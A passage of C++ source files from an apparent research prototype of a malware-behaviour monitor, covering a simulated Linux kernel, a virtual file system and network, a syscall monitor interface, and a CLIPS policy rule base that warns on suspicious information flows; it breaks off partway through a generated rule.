        if ((argv[0] == "mknod" || argv[0] == "/bin/mknod") &&
            argv.size() >= 2) {
            if (!vfs_.exists(argv[1]))
                vfs_.createFifo(argv[1]);
            continue;
        }

        // Resolve the program: as given, then along /bin, /usr/bin.
        std::string prog = argv[0];
        auto node = vfs_.lookup(prog);
        for (const char *prefix : {"/bin/", "/usr/bin/"}) {
            if (node && node->binary)
                break;
            prog = std::string(prefix) + argv[0];
            node = vfs_.lookup(prog);
        }
        if (!node || !node->binary) {
            status = -1;
            continue;
        }
        Process &child = spawn(prog, argv);
        child.ppid = p.pid;
        if (!stdin_file.empty()) {
            auto in_node = vfs_.lookup(stdin_file);
            if (in_node) {
                auto f = std::make_shared<OpenFile>();
                f->kind = in_node->kind == VfsNode::Kind::Fifo
                              ? OpenFile::Kind::Fifo
                              : OpenFile::Kind::File;
                f->node = in_node;
                f->writable = false;
                f->resource = resources_.add(
                    SourceType::File, stdin_file, TagStore::EMPTY);
                child.fds[0] = f;
            }
        }
        if (!stdout_file.empty()) {
            auto out_node = vfs_.lookup(stdout_file);
            if (!out_node)
                out_node = vfs_.createFile(stdout_file);
            auto f = std::make_shared<OpenFile>();
            f->kind = out_node->kind == VfsNode::Kind::Fifo
                          ? OpenFile::Kind::Fifo
                          : OpenFile::Kind::File;
            f->node = out_node;
            f->readable = false;
            f->resource = resources_.add(
                SourceType::File, stdout_file, TagStore::EMPTY);
            if (f->kind == OpenFile::Kind::Fifo)
                ++out_node->fifoWriters;
            child.fds[1] = f;
        }
    }
    return status;
}

} // namespace hth::os
