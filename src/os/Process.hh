/**
 * @file
 * Processes: a VM machine context plus kernel bookkeeping.
 */

#ifndef HTH_OS_PROCESS_HH
#define HTH_OS_PROCESS_HH

#include <functional>
#include <map>
#include <memory>
#include <string>

#include "os/Net.hh"
#include "os/Vfs.hh"
#include "taint/DataSource.hh"
#include "vm/Machine.hh"

namespace hth::os
{

/** An open file description. */
struct OpenFile
{
    enum class Kind { File, Fifo, Socket, Stdin, Stdout };

    Kind kind = Kind::File;
    std::shared_ptr<VfsNode> node;      //!< File / Fifo
    size_t offset = 0;                  //!< File read/write position
    std::shared_ptr<Socket> sock;       //!< Socket
    bool readable = true;
    bool writable = true;

    /** Resource registered for this description (event reporting). */
    taint::ResourceId resource = taint::NO_RESOURCE;

    /** For sockets accepted from a listener: the server's resource. */
    taint::ResourceId serverResource = taint::NO_RESOURCE;
};

/** Scheduling state. */
enum class ProcState
{
    Runnable,
    Blocked,
    Zombie,     //!< exited, not yet reaped
};

/** One process. */
struct Process
{
    Process(int pid_, taint::TagStore &tags)
        : pid(pid_), machine(tags)
    {
    }

    int pid = 0;
    int ppid = 0;
    ProcState state = ProcState::Runnable;
    int exitCode = 0;

    vm::Machine machine;
    std::string binaryPath;
    uint64_t startTime = 0;

    std::map<int, std::shared_ptr<OpenFile>> fds;
    int nextFd = 3;

    /** Captured stdout, for scenarios and tests. */
    std::string stdoutData;

    /** Scripted stdin contents ("the user typed this"). */
    std::string stdinData;
    size_t stdinPos = 0;

    /** Blocked processes wake when this returns true. */
    std::function<bool()> wakeCondition;

    /** Set while blocked on nanosleep: absolute wake tick. */
    uint64_t sleepUntil = 0;
    bool sleeping = false;

    uint32_t brk = vm::Machine::HEAP_BASE;

    int
    allocFd()
    {
        return nextFd++;
    }
};

} // namespace hth::os

#endif // HTH_OS_PROCESS_HH
