#include "os/Net.hh"

#include "support/Logging.hh"
#include "support/StrUtil.hh"

namespace hth::os
{

void
RemoteConn::send(const std::string &data)
{
    for (char c : data)
        guest_->inbox.push_back((uint8_t)c);
}

void
RemoteConn::close()
{
    guest_->peerClosed = true;
}

const std::string &
RemoteConn::received() const
{
    return guest_->remoteReceived;
}

std::string
Network::addHost(const std::string &name)
{
    auto it = dns_.find(name);
    if (it != dns_.end())
        return it->second;
    std::string addr = "10.0.0." + std::to_string(nextHostNum_++);
    dns_[name] = addr;
    reverse_[addr] = name;
    return addr;
}

std::string
Network::resolve(const std::string &name) const
{
    auto it = dns_.find(name);
    return it == dns_.end() ? "" : it->second;
}

std::string
Network::hostOf(const std::string &addr) const
{
    auto it = reverse_.find(addr);
    return it == reverse_.end() ? "" : it->second;
}

std::string
Network::canonical(const std::string &host_port) const
{
    size_t colon = host_port.rfind(':');
    if (colon == std::string::npos) {
        // Bare address: substitute the host name when known.
        std::string name = hostOf(host_port);
        return name.empty() ? host_port : name;
    }
    std::string host = host_port.substr(0, colon);
    std::string port = host_port.substr(colon + 1);
    std::string name = hostOf(host);
    if (!name.empty())
        return name + ":" + port;
    return host_port;
}

void
Network::addRemoteServer(const std::string &host_port, RemotePeer peer)
{
    auto shared = std::make_shared<RemotePeer>(std::move(peer));
    remoteServers_[canonical(host_port)] = shared;
}

void
Network::addRemoteClient(const std::string &target_addr, RemotePeer peer)
{
    remoteClients_.emplace(canonical(target_addr),
                           std::make_shared<RemotePeer>(std::move(peer)));
}

void
Network::registerListener(const std::string &addr,
                          std::shared_ptr<Socket> listener)
{
    const std::string canon = canonical(addr);
    listeners_[canon] = listener;

    // Wire every remote client waiting for this server.
    auto range = remoteClients_.equal_range(canon);
    for (auto it = range.first; it != range.second; ++it) {
        auto conn = std::make_shared<Socket>();
        conn->connected = true;
        conn->peerAddr = it->second->name;
        conn->remote = it->second;
        listener->pendingAccept.push_back(conn);
        if (it->second->onConnect) {
            RemoteConn rc(conn.get());
            it->second->onConnect(rc);
        }
    }
    remoteClients_.erase(range.first, range.second);
}

bool
Network::connect(std::shared_ptr<Socket> sock, const std::string &addr)
{
    const std::string canon = canonical(addr);

    // A guest server?
    auto lit = listeners_.find(canon);
    if (lit != listeners_.end()) {
        if (auto listener = lit->second.lock()) {
            auto server_side = std::make_shared<Socket>();
            server_side->connected = true;
            server_side->peerAddr = "LocalHost:client";
            server_side->peer = sock;
            sock->connected = true;
            sock->peerAddr = canon;
            sock->peer = server_side;
            listener->pendingAccept.push_back(server_side);
            return true;
        }
        listeners_.erase(lit);
    }

    // A scripted remote server?
    auto rit = remoteServers_.find(canon);
    if (rit != remoteServers_.end()) {
        sock->connected = true;
        sock->peerAddr = rit->second->name;
        sock->remote = rit->second;
        if (rit->second->onConnect) {
            RemoteConn rc(sock.get());
            rit->second->onConnect(rc);
        }
        return true;
    }
    return false;
}

void
Network::deliver(Socket &from, const uint8_t *data, size_t len)
{
    from.remoteReceived.append((const char *)data, len);
    if (from.remote) {
        if (from.remote->onData) {
            RemoteConn rc(&from);
            from.remote->onData(rc,
                                std::string((const char *)data, len));
        }
        return;
    }
    if (auto peer = from.peer.lock()) {
        for (size_t i = 0; i < len; ++i)
            peer->inbox.push_back(data[i]);
    }
}

void
Network::close(Socket &sock)
{
    if (auto peer = sock.peer.lock())
        peer->peerClosed = true;
    sock.connected = false;
}

} // namespace hth::os
