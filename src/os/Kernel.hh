/**
 * @file
 * The simulated operating system kernel.
 *
 * Implements the i386 Linux system-call subset HTH monitors
 * (§7.1), a process table with a round-robin scheduler, blocking
 * IO over files / FIFOs / sockets, and the resource table that
 * gives every file, socket and binary an identity plus the
 * provenance of its *name* (the resource ID (origin) data source
 * of Table 2).
 *
 * The kernel is taint-aware: read() tags the destination buffer
 * with the source resource, loaded binaries are tagged BINARY by
 * the VM loader, the initial stack is tagged USER_INPUT (§7.3.3).
 */

#ifndef HTH_OS_KERNEL_HH
#define HTH_OS_KERNEL_HH

#include <array>
#include <functional>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "obs/Profiler.hh"
#include "os/Monitor.hh"
#include "os/Net.hh"
#include "os/Process.hh"
#include "os/Syscalls.hh"
#include "os/Vfs.hh"
#include "taint/DataSource.hh"
#include "taint/TagSet.hh"

namespace hth::os
{

/** Why Kernel::run returned. */
enum class RunStatus
{
    Done,       //!< every process exited
    Stalled,    //!< deadlock: blocked processes, nothing can progress
    TickLimit,  //!< tick budget exhausted
};

/** Kernel-wide statistics. */
struct KernelStats
{
    uint64_t processesCreated = 0;
    uint64_t syscalls = 0;
    uint64_t contextSwitches = 0;
    uint64_t stdinBytesRead = 0;
    uint64_t socketBytesRead = 0;
    uint64_t nativeCalls = 0;  //!< C++-implemented libc routines
    uint64_t vfsOps = 0;       //!< path-level VFS syscalls
    /** Per-syscall-number counts (i386 numbers are all < 256). */
    std::array<uint64_t, 256> syscallsByNumber{};
};

/** The simulated OS. */
class Kernel
{
  public:
    /** Handler body of a native (C++-implemented) library routine. */
    using NativeHandler = std::function<void(Kernel &, Process &)>;

    /** Instructions per scheduling quantum. */
    static constexpr uint64_t QUANTUM = 64;

    Kernel();

    /** @name Subsystems @{ */
    Vfs &vfs() { return vfs_; }
    Network &net() { return net_; }
    taint::TagStore &tagStore() { return tags_; }
    taint::ResourceTable &resources() { return resources_; }
    const taint::ResourceTable &resources() const { return resources_; }
    /** @} */

    /** @name Configuration @{ */

    void setMonitor(Monitor *monitor) { monitor_ = monitor; }
    Monitor *monitor() const { return monitor_; }

    /** Enable instruction-level taint tracking in new processes. */
    void setTaintTracking(bool on) { trackTaint_ = on; }
    bool taintTracking() const { return trackTaint_; }

    /** Enable the trace-linking engine in new processes. */
    void setSuperblocks(bool on) { superblocks_ = on; }
    bool superblocks() const { return superblocks_; }

    /** PIN-style instrumentor installed into every new machine. */
    void setInstrumentor(vm::Instrumentor *ins) { instrumentor_ = ins; }

    /** Shared object mapped into every process (load order). */
    void addSharedObject(std::shared_ptr<const vm::Image> image);

    /** Register the C++ body of a native library routine. */
    void registerNative(const std::string &name, NativeHandler handler);

    /** Cap on concurrently live processes (fork-bomb safety). */
    void setProcessLimit(size_t limit) { processLimit_ = limit; }

    /** @} */
    /** @name Process management @{ */

    /**
     * Create a process running the binary registered at @p path with
     * the given command line and environment.
     */
    Process &spawn(const std::string &path,
                   const std::vector<std::string> &argv,
                   const std::vector<std::string> &env = {});

    Process *process(int pid);
    const std::vector<std::unique_ptr<Process>> &
    processes() const
    {
        return processes_;
    }

    /** Processes not yet exited. */
    size_t liveProcessCount() const;

    /** @} */
    /** @name Execution @{ */

    /** Run until every process exits, deadlock, or the tick cap. */
    RunStatus run(uint64_t max_ticks = 50000000);

    /** Global virtual time (instructions executed). */
    uint64_t now() const { return time_; }

    const KernelStats &stats() const { return stats_; }

    /** Attribute scheduler/syscall time to @p profiler (null
     * detaches; scopes become no-ops). */
    void setProfiler(obs::PhaseProfiler *profiler)
    {
        profiler_ = profiler;
    }

    /** Record image_load / superblock_form spans (propagated to
     * every spawned machine; null detaches for future spawns). */
    void setSpanTracer(obs::SpanTracer *tracer)
    {
        spanTracer_ = tracer;
    }

    /** @} */
    /** @name Queries and services for the monitor / natives @{ */

    /** Resource bound to an fd, or NO_RESOURCE. */
    taint::ResourceId fdResource(const Process &p, int fd) const;

    /** Name of a resource ("<unknown>" for NO_RESOURCE). */
    const taint::Resource &resource(taint::ResourceId id) const;

    /** Raise a synthetic monitored event (used by system()). */
    void emitSyscallEvent(Process &p, const SyscallView &view);

    /** The USER_INPUT tag set (stdin / command line / environment). */
    taint::TagSetId userInputTags() const { return userInputTag_; }

    /**
     * Run a shell command on behalf of @p p — the simulated libc
     * system(3). Parses redirections (`<file`, `>file`, trailing
     * `&`), FIFO creation via mknod, and spawns registered binaries.
     * @return 0 on success, -1 when the program is missing.
     */
    int runShellCommand(Process &p, const std::string &command,
                        taint::TagSetId cmd_tags);

    /** Block @p p until @p cond returns true (restart the syscall). */
    void blockProcess(Process &p, std::function<bool()> cond);

    /** @} */

  private:
    void runQuantum(Process &p, uint64_t budget);
    void handleSyscall(Process &p);
    void handleNative(Process &p, const std::string &name);
    void exitProcess(Process &p, int code);

    /** Re-execute the int80 after unblocking. */
    void restartSyscall(Process &p);

    void setupStdio(Process &p);
    void loadProcessImages(Process &p, const std::string &path,
                           std::shared_ptr<const vm::Image> binary);
    void buildInitialStack(Process &p,
                           const std::vector<std::string> &argv,
                           const std::vector<std::string> &env);

    /** @name Syscall implementations @{ */
    void sysFork(Process &p, bool is_clone);
    void sysRead(Process &p);
    void sysWrite(Process &p);
    void sysOpen(Process &p, bool creat_mode);
    void sysClose(Process &p);
    void sysWaitpid(Process &p);
    void sysUnlink(Process &p);
    void sysExecve(Process &p);
    void sysMknod(Process &p);
    void sysChmod(Process &p);
    void sysKill(Process &p);
    void sysDup(Process &p);
    void sysDup2(Process &p);
    void sysPipe(Process &p);
    void sysBrk(Process &p);
    void sysSocketcall(Process &p);
    void sysNanosleep(Process &p);
    /** @} */

    void doWrite(Process &p, OpenFile &f, uint32_t buf, uint32_t len);
    int doRead(Process &p, OpenFile &f, uint32_t buf, uint32_t len);

    SyscallView fdView(Process &p, int number, int fd) const;

    taint::TagStore tags_;
    taint::ResourceTable resources_;
    Vfs vfs_;
    Network net_;

    std::vector<std::unique_ptr<Process>> processes_;
    int nextPid_ = 1;
    int pipeCounter_ = 0;
    uint64_t time_ = 0;
    size_t processLimit_ = 4096;

    std::vector<std::shared_ptr<const vm::Image>> sharedObjects_;
    std::map<std::string, NativeHandler> natives_;

    Monitor *monitor_ = nullptr;
    vm::Instrumentor *instrumentor_ = nullptr;
    bool trackTaint_ = false;
    bool superblocks_ = true;

    taint::ResourceId stdinRes_ = 0;
    taint::ResourceId stdoutRes_ = 0;
    taint::ResourceId cmdlineRes_ = 0;
    taint::TagSetId userInputTag_ = 0;

    KernelStats stats_;
    obs::PhaseProfiler *profiler_ = nullptr;
    obs::SpanTracer *spanTracer_ = nullptr;
};

} // namespace hth::os

#endif // HTH_OS_KERNEL_HH
