/**
 * @file
 * The simulated C library.
 *
 * Builds the trusted shared objects the paper's prototype relies on
 * (libc.so and ld-linux.so) and registers the native C++ bodies of
 * their routines with the kernel. Routines that copy memory copy
 * shadow taint byte-for-byte; gethostbyname writes its result with
 * the resolver database's provenance so that Harrier's short-circuit
 * (§7.2) is observable.
 *
 * Guest-callable routines (cdecl: arguments pushed right-to-left):
 *   system(cmd)          — run a shell command (fires SYS_execve of
 *                          /bin/sh whose name originates in libc)
 *   gethostbyname(name)  — resolve a host name; returns a pointer to
 *                          a static buffer holding the address
 *   sleep(ticks)         — block for virtual ticks
 *   strcpy(dst, src), strcat(dst, src), strlen(s)
 *   memcpy(dst, src, n)
 *   itoa(value, dst)     — decimal rendering, taint follows value
 */

#ifndef HTH_OS_LIBC_HH
#define HTH_OS_LIBC_HH

#include <memory>

#include "os/Kernel.hh"
#include "vm/Image.hh"

namespace hth::os
{

/** Handles to the installed C library images. */
struct LibcHandles
{
    std::shared_ptr<const vm::Image> libc;
    std::shared_ptr<const vm::Image> ldso;
};

/**
 * Build libc.so + ld-linux.so, register them as shared objects of
 * every future process, and install their native handlers.
 */
LibcHandles installLibc(Kernel &kernel);

/** Read the i-th cdecl argument of the executing native routine. */
uint32_t nativeArg(Process &p, int i);

/** Taint tags of the i-th cdecl argument word. */
taint::TagSetId nativeArgTags(Process &p, int i);

} // namespace hth::os

#endif // HTH_OS_LIBC_HH
