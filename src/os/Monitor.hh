/**
 * @file
 * The kernel's monitoring interface — the seam where Harrier attaches.
 *
 * The kernel decodes each interesting system call into a SyscallView
 * *before* executing it (paper §7.1: "Whenever such a system call is
 * issued, and just before it is executed, an event is generated") and
 * hands it to the monitor. The monitor also observes native library
 * routine entry/exit, which Harrier uses for the gethostbyname
 * short-circuit (§7.2).
 */

#ifndef HTH_OS_MONITOR_HH
#define HTH_OS_MONITOR_HH

#include <cstdint>
#include <string>

#include "taint/DataSource.hh"
#include "taint/TagSet.hh"

namespace hth::os
{

class Kernel;
struct Process;

/** A decoded system call, ready for policy analysis. */
struct SyscallView
{
    int number = 0;
    std::string name;                   //!< "SYS_execve", ...

    /** @name Resource-access events (§6.1.2 type 1) @{ */
    std::string resName;                //!< "/bin/ls", "duero:40400"
    taint::SourceType resType = taint::SourceType::Unknown;
    taint::TagSetId resNameTags = 0;    //!< provenance of the name
    taint::ResourceId resource = taint::NO_RESOURCE;
    /** @} */

    /** @name IO events (§6.1.2 type 2) @{ */
    bool isRead = false;
    bool isWrite = false;
    uint32_t buf = 0;
    uint32_t len = 0;
    taint::TagSetId dataTags = 0;       //!< union over written bytes
    /** @} */

    /** @name Socket server context (pma-style warnings) @{ */
    bool viaServer = false;
    taint::ResourceId serverResource = taint::NO_RESOURCE;
    /** @} */

    bool isProcessCreate = false;       //!< fork / clone

    /** For SYS_brk: bytes of heap growth (§10 extension 4). */
    uint64_t amount = 0;
};

/** Callbacks the kernel raises toward the monitor (Harrier). */
class Monitor
{
  public:
    virtual ~Monitor() = default;

    /** A process came to life (after its image + stack are set up). */
    virtual void processStarted(Kernel &k, Process &p)
    {
        (void)k; (void)p;
    }

    /** A process exited with @p code. */
    virtual void processExited(Kernel &k, Process &p, int code)
    {
        (void)k; (void)p; (void)code;
    }

    /** An interesting system call is about to execute. */
    virtual void syscallEvent(Kernel &k, Process &p,
                              const SyscallView &view)
    {
        (void)k; (void)p; (void)view;
    }

    /** A native library routine named @p name is about to run. */
    virtual void nativePre(Kernel &k, Process &p,
                           const std::string &name)
    {
        (void)k; (void)p; (void)name;
    }

    /** The native library routine named @p name just returned. */
    virtual void nativePost(Kernel &k, Process &p,
                            const std::string &name)
    {
        (void)k; (void)p; (void)name;
    }
};

} // namespace hth::os

#endif // HTH_OS_MONITOR_HH
