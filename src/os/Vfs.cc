#include "os/Vfs.hh"

namespace hth::os
{

std::shared_ptr<VfsNode>
Vfs::lookup(const std::string &path) const
{
    auto it = nodes_.find(path);
    return it == nodes_.end() ? nullptr : it->second;
}

std::shared_ptr<VfsNode>
Vfs::createFile(const std::string &path)
{
    auto node = std::make_shared<VfsNode>();
    node->kind = VfsNode::Kind::File;
    node->path = path;
    nodes_[path] = node;
    return node;
}

std::shared_ptr<VfsNode>
Vfs::createFifo(const std::string &path)
{
    auto node = std::make_shared<VfsNode>();
    node->kind = VfsNode::Kind::Fifo;
    node->path = path;
    nodes_[path] = node;
    return node;
}

std::shared_ptr<VfsNode>
Vfs::addFile(const std::string &path, const std::string &content)
{
    auto node = createFile(path);
    node->content.assign(content.begin(), content.end());
    return node;
}

std::shared_ptr<VfsNode>
Vfs::addBinary(const std::string &path,
               std::shared_ptr<const vm::Image> image)
{
    auto node = createFile(path);
    node->executable = true;
    node->binary = std::move(image);
    return node;
}

bool
Vfs::remove(const std::string &path)
{
    return nodes_.erase(path) != 0;
}

std::vector<std::string>
Vfs::paths() const
{
    std::vector<std::string> out;
    out.reserve(nodes_.size());
    for (const auto &[path, node] : nodes_)
        out.push_back(path);
    return out;
}

} // namespace hth::os
