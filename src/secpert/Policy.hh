/**
 * @file
 * The HTH security policy (paper §4): configuration knobs and the
 * CLIPS rule base.
 */

#ifndef HTH_SECPERT_POLICY_HH
#define HTH_SECPERT_POLICY_HH

#include <string>
#include <vector>

namespace hth::secpert
{

/**
 * Policy thresholds. The paper does not publish exact values for
 * "rare", "a while ago", "high number" or "high rate"; these
 * defaults reproduce the classifications its evaluation reports and
 * are adjustable per deployment.
 */
struct PolicyConfig
{
    /** BB executions below this count as "rarely executed" (§4.1). */
    int rareFrequency = 3;

    /**
     * Process-relative event time (in Harrier time units) beyond
     * which the program "started a while ago" (§4.1).
     */
    int longTime = 200;

    /** Process creations beyond this raise the Low warning (§4.2). */
    int maxProcesses = 10;

    /** Window (absolute time units) for the creation-rate rule. */
    int rateWindow = 400;

    /** Creations within one window beyond this raise Medium (§4.2). */
    int rateMax = 6;

    /**
     * Total heap growth (bytes) beyond which the memory-abuse rule
     * (the §10 extension the paper defers) raises Low.
     */
    int64_t maxHeapGrowth = 8 * 1024 * 1024;

    /**
     * Substrings of trusted binary names; hard-coded strings living
     * in these images are not suspicious (the paper trusts libc and
     * ld-linux, §A.2).
     */
    std::vector<std::string> trustedBinaries = {"libc.so", "ld-linux"};

    /** Trusted socket name substrings (the paper trusts none). */
    std::vector<std::string> trustedSockets = {};

    /** Which CLIPS match strategy drives the engine. */
    enum class Matcher
    {
        Rete,        //!< delta-driven Rete network (default)
        DirtyRescan, //!< rescan rules whose templates changed
        Naive,       //!< full recomputation every run()
    };

    /**
     * Match strategy. Rete is the production engine; DirtyRescan and
     * Naive are slower reference oracles kept for differential
     * testing.
     */
    Matcher matcher = Matcher::Rete;

    /**
     * Legacy override: force the naive full-recomputation matcher
     * regardless of @ref matcher. Kept so existing differential
     * harnesses keep compiling.
     */
    bool naiveMatcher = false;
};

/**
 * The policy rule base in the CLIPS dialect: deftemplates for
 * Harrier's two event types, the execution-flow rule (App. A.2),
 * the resource-abuse counters (§4.2) and the information-flow rule
 * family (§4.3).
 */
const std::string &policyRules();

/** Deftemplates and static facts the rules depend on. */
const std::string &policyDeclarations();

} // namespace hth::secpert

#endif // HTH_SECPERT_POLICY_HH
