/**
 * @file
 * Warnings Secpert raises toward the user.
 */

#ifndef HTH_SECPERT_WARNING_HH
#define HTH_SECPERT_WARNING_HH

#include <string>
#include <vector>

namespace hth::secpert
{

/** Confidence that the flagged behaviour is actually malicious (§4). */
enum class Severity : int
{
    Low = 1,
    Medium = 2,
    High = 3,
};

/** Display label: "LOW" / "MEDIUM" / "HIGH". */
const char *severityName(Severity severity);

/** One policy warning. */
struct Warning
{
    Severity severity = Severity::Low;
    std::string rule;       //!< policy rule that fired
    std::string message;    //!< human-readable explanation
    int pid = 0;
};

/** Highest severity in a warning list (Low when empty). */
Severity maxSeverity(const std::vector<Warning> &warnings);

} // namespace hth::secpert

#endif // HTH_SECPERT_WARNING_HH
