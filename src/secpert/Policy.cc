/**
 * @file
 * The HTH policy rule base.
 *
 * check_execve follows the paper's Appendix A.2 almost verbatim
 * (including the resolution-fact protocol); the resource-abuse
 * counters implement §4.2; the information-flow family implements
 * the §4.3 rule matrix, generated from a severity table so every
 * (source type → target type) pair shares one audited body.
 */

#include "secpert/Policy.hh"

#include <sstream>
#include <vector>

namespace hth::secpert
{

const std::string &
policyDeclarations()
{
    static const std::string decls = R"CLP(
;;; ---- HTH event templates (paper section 6.1.2) -------------------
(deftemplate system_call_access
  (slot pid)
  (slot binary (default ""))
  (slot system_call_name)
  (multislot resource_name)
  (multislot resource_type)
  (multislot resource_origin_name)
  (multislot resource_origin_type)
  (slot time)
  (slot abs_time (default 0))
  (slot frequency)
  (slot address)
  (slot process_create (default FALSE))
  (slot amount (default 0)))

(deftemplate system_call_io
  (slot pid)
  (slot binary (default ""))
  (slot system_call_name)
  (slot direction)
  (slot source_name (default ""))
  (slot source_type (default NONE))
  (multislot source_origin_name)
  (multislot source_origin_type)
  (slot target_name (default ""))
  (slot target_type (default NONE))
  (multislot target_origin_name)
  (multislot target_origin_type)
  (slot via_server (default FALSE))
  (slot server_name (default ""))
  (multislot server_origin_name)
  (multislot server_origin_type)
  (slot time)
  (slot abs_time (default 0))
  (slot frequency)
  (slot address))

(deftemplate resolution (slot status))
(deftemplate system_call_name (slot name))
(deftemplate clone_stats
  (slot count)
  (slot window_start)
  (slot window_count))
(deftemplate mem_stats (slot growth))

;;; Cross-session memory (paper section 10, extensions 5 and 6):
;;; files observed being written with network data. These facts
;;; persist across monitored executions within one Secpert session.
(deftemplate downloaded_file (slot name))

;;; Static pre-screening findings: asserted by Secpert at image-load
;;; time and, unlike the one-shot event facts, never retracted by the
;;; engine sweep, so hybrid rules can join them with later dynamic
;;; events. level: 0 info, 1 low, 2 medium, 3 high.
(deftemplate static_finding
  (slot image)
  (slot kind)
  (slot level (default 0))
  (slot address (default 0))
  (slot syscall (default NONE))
  (slot resource (default ""))
  (slot detail (default ""))
  (slot witness (default "")))   ; hex-encoded trigger bytes

;;; Marker so a hybrid static+dynamic rule warns once per image.
(deftemplate static_warned
  (slot image)
  (slot kind))

;;; Statistical anomaly verdict from the baseline scorer: the run's
;;; telemetry deviated from the multi-seed clean baseline. Asserted
;;; by Secpert::noteAnomaly() only when the aggregate crossed the
;;; scorer threshold; persists like static_finding so hybrid rules
;;; can join it with symbolic evidence. score/maxz are z-statistics,
;;; novel counts metrics the trusted program never exhibited, top is
;;; the worst-deviating metric's name.
(deftemplate behavioral_anomaly
  (slot run (default ""))
  (slot baseline (default ""))
  (slot score (default 0.0))
  (slot maxz (default 0.0))
  (slot novel (default 0))
  (slot top (default "")))

;;; Marker so the anomaly rules warn once per scored run.
(deftemplate anomaly_warned (slot run))

;;; Thresholds; Secpert overrides these from PolicyConfig.
(defglobal ?*RARE_FREQUENCY* = 3
           ?*LONG_TIME* = 200
           ?*MAX_PROCESSES* = 10
           ?*RATE_WINDOW* = 400
           ?*RATE_MAX* = 6
           ?*MAX_HEAP_GROWTH* = 8388608
           ?*TAB* = "    ")

(assert (system_call_name (name SYS_execve)))
(assert (clone_stats (count 0) (window_start 0) (window_count 0)))
(assert (mem_stats (growth 0)))
)CLP";
    return decls;
}

namespace
{

/** Severity escalation snippet of one information-flow family. */
struct IoFamily
{
    const char *src;    //!< source_type symbol
    const char *tgt;    //!< target_type symbol
    const char *severityExprs;
};

/**
 * The §4.3 information-flow severity matrix.
 *
 * Booleans available to the expressions: ?src-hard ?src-user
 * ?src-remote ?tgt-hard ?tgt-user ?tgt-remote ?srv-hard.
 * Later binds override earlier ones, so order low → high.
 */
const std::vector<IoFamily> IO_FAMILIES = {
    {"BINARY", "FILE",
     "  (if ?tgt-hard then (bind ?warning 3))\n"
     "  (if ?tgt-remote then (bind ?warning 3))\n"},
    {"BINARY", "SOCKET",
     "  (if ?tgt-hard then (bind ?warning 1))\n"
     "  (if ?srv-hard then (bind ?warning 3))\n"
     "  (if ?tgt-remote then (bind ?warning 3))\n"},
    {"FILE", "FILE",
     "  (if (and ?src-user ?tgt-hard) then (bind ?warning 1))\n"
     "  (if (and ?src-hard ?tgt-user) then (bind ?warning 1))\n"
     "  (if (and ?src-hard ?tgt-hard) then (bind ?warning 3))\n"
     "  (if ?src-remote then (bind ?warning 3))\n"
     "  (if ?tgt-remote then (bind ?warning 3))\n"},
    {"FILE", "SOCKET",
     "  (if (and ?src-user ?tgt-hard) then (bind ?warning 1))\n"
     "  (if (and ?src-hard ?tgt-user) then (bind ?warning 1))\n"
     "  (if (and ?src-hard ?tgt-hard) then (bind ?warning 3))\n"
     "  (if ?src-remote then (bind ?warning 3))\n"
     "  (if ?srv-hard then (bind ?warning 3))\n"
     "  (if ?tgt-remote then (bind ?warning 3))\n"},
    {"SOCKET", "FILE",
     "  (if (and ?src-user ?tgt-hard) then (bind ?warning 1))\n"
     "  (if (and ?src-hard ?tgt-user) then (bind ?warning 1))\n"
     "  (if (and ?src-hard ?tgt-hard) then (bind ?warning 3))\n"
     "  (if ?srv-hard then (bind ?warning 3))\n"
     "  (if ?tgt-remote then (bind ?warning 3))\n"},
    {"SOCKET", "SOCKET",
     "  (if (and ?src-hard ?tgt-hard) then (bind ?warning 3))\n"
     "  (if ?srv-hard then (bind ?warning 3))\n"
     "  (if ?tgt-remote then (bind ?warning 3))\n"},
    {"HARDWARE", "FILE",
     "  (if ?tgt-hard then (bind ?warning 3))\n"
     "  (if ?tgt-remote then (bind ?warning 3))\n"},
    {"HARDWARE", "SOCKET",
     "  (if ?tgt-hard then (bind ?warning 3))\n"
     "  (if ?tgt-remote then (bind ?warning 3))\n"},
    {"USER_INPUT", "FILE",
     "  (if ?tgt-hard then (bind ?warning 3))\n"
     "  (if ?tgt-remote then (bind ?warning 3))\n"},
    {"USER_INPUT", "SOCKET",
     "  (if ?tgt-hard then (bind ?warning 3))\n"
     "  (if ?tgt-remote then (bind ?warning 3))\n"},
};

std::string
makeIoRule(const IoFamily &family)
{
    std::ostringstream os;
    std::string rule_name = std::string("io_") + family.src + "_to_" +
                            family.tgt;
    os << "(defrule " << rule_name << " \"information flow "
       << family.src << " -> " << family.tgt << " (section 4.3)\"\n"
       << "  (system_call_io (pid ?pid) (direction WRITE)\n"
       << "    (system_call_name ?sys)\n"
       << "    (source_type " << family.src << ") (source_name ?sname)\n"
       << "    (source_origin_name $?son) (source_origin_type $?sot)\n"
       << "    (target_type " << family.tgt << ") (target_name ?tname)\n"
       << "    (target_origin_name $?ton) (target_origin_type $?tot)\n"
       << "    (via_server ?vs) (server_name ?srvname)\n"
       << "    (server_origin_name $?srvon)"
       << " (server_origin_type $?srvot)\n"
       << "    (time ?time) (frequency ?freq) (address ?addr))\n"
       << "  =>\n"
       << "  (bind ?src-hard-l (filter_binary $?sot $?son))\n"
       << "  (bind ?src-remote-l (filter_socket $?sot $?son))\n"
       << "  (bind ?tgt-hard-l (filter_binary $?tot $?ton))\n"
       << "  (bind ?tgt-remote-l (filter_socket $?tot $?ton))\n"
       << "  (bind ?srv-hard-l (filter_binary $?srvot $?srvon))\n"
       << "  (bind ?src-hard (not (empty-list ?src-hard-l)))\n"
       << "  (bind ?src-remote (not (empty-list ?src-remote-l)))\n"
       << "  (bind ?src-user (neq (member$ USER_INPUT $?sot) FALSE))\n"
       << "  (bind ?tgt-hard (not (empty-list ?tgt-hard-l)))\n"
       << "  (bind ?tgt-user (neq (member$ USER_INPUT $?tot) FALSE))\n"
       << "  (bind ?tgt-remote (not (empty-list ?tgt-remote-l)))\n"
       << "  (bind ?srv-hard (and (eq ?vs TRUE)\n"
       << "                       (not (empty-list ?srv-hard-l))))\n"
       << "  (bind ?warning 0)\n"
       << family.severityExprs
       << "  (if (> ?warning 0) then\n"
       << "    (print-warning ?warning)\n"
       << "    (printout t \"Found Write call Data Flowing From: \"\n"
       << "              ?sname \" To: \" ?tname crlf)\n"
       << "    (if ?src-hard then\n"
       << "      (printout t ?*TAB* \"source name was hardcoded in: (\"\n"
       << "                (implode$ ?src-hard-l) \")\" crlf))\n"
       << "    (if ?src-remote then\n"
       << "      (printout t ?*TAB*\n"
       << "                \"source name originated from a socket: (\"\n"
       << "                (implode$ ?src-remote-l) \")\" crlf))\n"
